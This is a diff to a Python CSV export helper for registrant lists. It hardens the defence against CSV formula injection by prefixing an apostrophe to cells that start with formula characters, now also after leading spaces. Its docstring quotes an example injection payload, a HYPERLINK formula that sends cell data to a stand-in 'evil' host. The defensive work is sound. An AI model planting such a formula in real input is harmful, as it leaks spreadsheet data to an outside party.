@@ -3,7 +3,8 @@
 A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is a formula to
 Excel, LibreOffice and Google Sheets: a registrant who types `=HYPERLINK("http://evil/?"&A1,"Click")` as
 their name would otherwise run it on the organiser's computer (CSV injection, OWASP). Such cells get a
-leading apostrophe, which spreadsheets show as text and hide. Files start with a UTF-8 byte order mark so
+leading apostrophe, which spreadsheets show as text and hide; so do cells where spaces come first, since
+an import that trims them (Google Sheets does) would leave the formula. Files start with a UTF-8 byte order mark so
 that spreadsheets read Polish, Ukrainian and Arabic names as they are.
 """
 
@@ -19,7 +20,7 @@ DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d",
 
 def cell(value: object) -> str:
     text = "" if value is None else str(value)
-    return "'" + text if text.startswith(DANGEROUS) else text
+    return "'" + text if text.lstrip().startswith(DANGEROUS) or text.startswith(DANGEROUS) else text
 
 
 def csv_bytes(header: Iterable[str], rows: Iterable[Iterable[object]]) -> bytes:
